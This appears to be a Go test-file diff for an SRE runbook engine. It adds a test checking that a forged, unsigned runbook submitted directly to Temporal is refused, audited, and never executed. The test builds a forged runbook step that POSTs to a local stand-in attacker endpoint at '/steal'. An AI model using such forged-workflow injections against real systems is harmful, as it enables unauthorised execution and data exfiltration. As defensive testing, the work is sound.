@@ -14,10 +14,15 @@ import (
 	"time"
 
 	"github.com/stretchr/testify/require"
+	"go.temporal.io/sdk/client"
 
+	"github.com/salve-sre/salve/activities"
 	"github.com/salve-sre/salve/internal/app"
+	"github.com/salve-sre/salve/internal/domain"
 	"github.com/salve-sre/salve/internal/runs"
 	"github.com/salve-sre/salve/internal/testenv"
+	"github.com/salve-sre/salve/runbooks"
+	"github.com/salve-sre/salve/workflows"
 )
 
 // probeRunbook asks real Prometheus about a job named by an alert label,
@@ -138,4 +143,44 @@ func TestAlertContentsCannotSteerRunbooks(t *testing.T) {
 		}
 	}
 	require.Zero(t, stolen.Load(), "the attacker's listener was called")
+}
+
+// Whoever reaches Temporal can start a workflow with any runbook in its
+// input. A real salve dev's worker runs none of it unless Salve signed it.
+func TestForgedRunbookStartedInTemporalRunsNothing(t *testing.T) {
+	var hits atomic.Int64
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { hits.Add(1) }))
+	defer attacker.Close()
+	dir := t.TempDir()
+	writeRunbook(t, dir, "probe", probeRunbook)
+	d := startDev(t, dir)
+
+	reg, err := activities.NewRegistry()
+	require.NoError(t, err)
+	forged, err := runbooks.Parse("forged.yaml", []byte(`apiVersion: salve/v1
+kind: Runbook
+metadata: {name: probe}
+spec:
+  steps:
+    - {name: count, action: http.request, with: {url: '`+attacker.URL+`/steal', method: POST}}
+`), reg)
+	require.NoError(t, err)
+	tc, err := client.Dial(client.Options{HostPort: d.TemporalAddr})
+	require.NoError(t, err)
+	defer tc.Close()
+	ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
+	defer cancel()
+	for i, sig := range []string{"", strings.Repeat("ab", 32)} {
+		id := fmt.Sprintf("salve/probe/forged-%d", i)
+		wr, err := tc.ExecuteWorkflow(ctx, client.StartWorkflowOptions{ID: id, TaskQueue: runs.DefaultTaskQueue}, workflows.WorkflowName,
+			workflows.Input{Runbook: *forged, RunbookSignature: sig, IncidentKey: "forged"})
+		require.NoError(t, err)
+		err = wr.Get(ctx, nil)
+		require.Error(t, err)
+		require.Contains(t, err.Error(), "not signed by Salve")
+		require.Eventually(t, func() bool {
+			return len(auditEvents(t, d.URL, "action="+domain.ActionRunRefused+"&workflowId="+id)) == 1
+		}, 30*time.Second, 200*time.Millisecond, "the refusal is audited")
+	}
+	require.Zero(t, hits.Load(), "no step of the forged runbook ran")
 }
